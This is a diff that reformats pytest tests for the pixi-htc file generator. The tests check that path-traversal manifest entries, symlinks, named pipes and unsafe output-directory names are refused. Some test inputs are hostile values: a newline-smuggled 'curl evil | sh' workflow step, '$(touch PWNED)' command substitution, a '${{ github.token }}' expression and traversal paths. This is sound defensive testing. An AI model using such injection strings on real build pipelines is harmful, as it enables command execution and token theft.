@@ -52,18 +52,21 @@ def refused(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
 # --- the manifest is untrusted ------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("entry", [
-    "ABSOLUTE",  # replaced by the victim's absolute path
-    "build/../../victim.txt",
-    ".github/workflows/../../../victim.txt",
-    "specs/project.yaml",  # inside the project, but not pixi-htc's
-    ".github/CODEOWNERS",
-    "build",
-    "build/./pixi.toml",
-    "build//pixi.toml",
-    "build\\..\\..\\victim.txt",
-    "build/x\n   remove  build/y",
-])
+@pytest.mark.parametrize(
+    "entry",
+    [
+        "ABSOLUTE",  # replaced by the victim's absolute path
+        "build/../../victim.txt",
+        ".github/workflows/../../../victim.txt",
+        "specs/project.yaml",  # inside the project, but not pixi-htc's
+        ".github/CODEOWNERS",
+        "build",
+        "build/./pixi.toml",
+        "build//pixi.toml",
+        "build\\..\\..\\victim.txt",
+        "build/x\n   remove  build/y",
+    ],
+)
 def test_manifest_entries_outside_what_pixi_htc_owns_are_refused(project: Path, entry: str) -> None:
     build(project)
     victim = project.parent.parent / "victim.txt"
@@ -79,8 +82,16 @@ def test_manifest_entries_outside_what_pixi_htc_owns_are_refused(project: Path, 
     assert victim.read_text() == GENERATED
 
 
-@pytest.mark.parametrize("text", ["not json", "[]", '{"files": ["build/pixi.toml"]}',
-                                  '{"files": {"build/pixi.toml": 1}}', '{"generator": "pixi-htc"}'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "not json",
+        "[]",
+        '{"files": ["build/pixi.toml"]}',
+        '{"files": {"build/pixi.toml": 1}}',
+        '{"generator": "pixi-htc"}',
+    ],
+)
 def test_a_malformed_manifest_is_refused_until_deleted(project: Path, text: str) -> None:
     build(project)
     (project / MANIFEST).write_text(text)
@@ -121,12 +132,15 @@ def test_a_stale_entry_is_removed_only_while_it_is_a_generated_regular_file(proj
 # --- never through a symlink --------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("link", "args", "named"), [
-    ("build/htcondor", (), "build/htcondor is a symbolic link"),
-    (".github", (), ".github is a symbolic link"),
-    (".github/workflows/pixi-htc.yml", (), ".github/workflows/pixi-htc.yml is a symbolic link"),
-    ("out", ("--out", "out"), "--out 'out' is a symbolic link"),
-])
+@pytest.mark.parametrize(
+    ("link", "args", "named"),
+    [
+        ("build/htcondor", (), "build/htcondor is a symbolic link"),
+        (".github", (), ".github is a symbolic link"),
+        (".github/workflows/pixi-htc.yml", (), ".github/workflows/pixi-htc.yml is a symbolic link"),
+        ("out", ("--out", "out"), "--out 'out' is a symbolic link"),
+    ],
+)
 def test_never_writes_through_a_symlink(project: Path, link: str, args: tuple[str, ...], named: str) -> None:
     build(project)
     shutil.rmtree(project / "build")  # a fresh build would otherwise meet the old one's manifest
@@ -152,20 +166,23 @@ def test_never_writes_through_a_symlink(project: Path, link: str, args: tuple[st
 # --- --out ----------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("out", "message"), [
-    (".", "is the working directory or one of its parents"),
-    ("..", "is the working directory or one of its parents"),
-    ("build/..", "is the working directory or one of its parents"),
-    ("specs", "contains the spec"),
-    ("spec-link/..", "may use only letters"),
-    ("a-file", "is not a directory"),
-    ("out\nrun: curl evil | sh", "may use only letters, digits, '.', '_' and '-'"),
-    ("$(touch PWNED)", "may use only letters"),
-    ("${{ github.token }}", "may use only letters"),
-    ("-x", "may use only letters"),
-    (".git", "may use only letters"),
-    (".github", "may use only letters"),
-])
+@pytest.mark.parametrize(
+    ("out", "message"),
+    [
+        (".", "is the working directory or one of its parents"),
+        ("..", "is the working directory or one of its parents"),
+        ("build/..", "is the working directory or one of its parents"),
+        ("specs", "contains the spec"),
+        ("spec-link/..", "may use only letters"),
+        ("a-file", "is not a directory"),
+        ("out\nrun: curl evil | sh", "may use only letters, digits, '.', '_' and '-'"),
+        ("$(touch PWNED)", "may use only letters"),
+        ("${{ github.token }}", "may use only letters"),
+        ("-x", "may use only letters"),
+        (".git", "may use only letters"),
+        (".github", "may use only letters"),
+    ],
+)
 def test_out_must_be_a_directory_of_its_own_with_a_portable_name(project: Path, out: str, message: str) -> None:
     (project / "a-file").write_text("mine\n")
     (project / "elsewhere" / "deep").mkdir(parents=True)
@@ -190,15 +207,24 @@ def test_out_root_is_refused_before_anything_is_written(project: Path) -> None:
 
 def run_cli_within(seconds: float, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
     """run_cli with a time limit: the defect under test blocked forever."""
-    return subprocess.run([sys.executable, "-m", "compiler", *args], cwd=cwd, capture_output=True, text=True,
-                          env={**os.environ, "PYTHONPATH": str(REPO)}, check=False, timeout=seconds)
+    return subprocess.run(
+        [sys.executable, "-m", "compiler", *args],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+        check=False,
+        timeout=seconds,
+    )
 
 
 @pytest.mark.parametrize("command", ["build", "validate"])
 def test_a_spec_that_is_not_a_regular_file_is_refused_before_it_is_opened(project: Path, command: str) -> None:
     os.mkfifo(project / "specs" / "fifo.yaml")
-    refused(run_cli_within(60, command, "specs/fifo.yaml", cwd=project),
-            "the spec specs/fifo.yaml is a named pipe (FIFO), not a regular file")
+    refused(
+        run_cli_within(60, command, "specs/fifo.yaml", cwd=project),
+        "the spec specs/fifo.yaml is a named pipe (FIFO), not a regular file",
+    )
     refused(run_cli(command, "specs", cwd=project), "the spec specs is a directory, not a regular file")
     assert not (project / "build").exists()
 
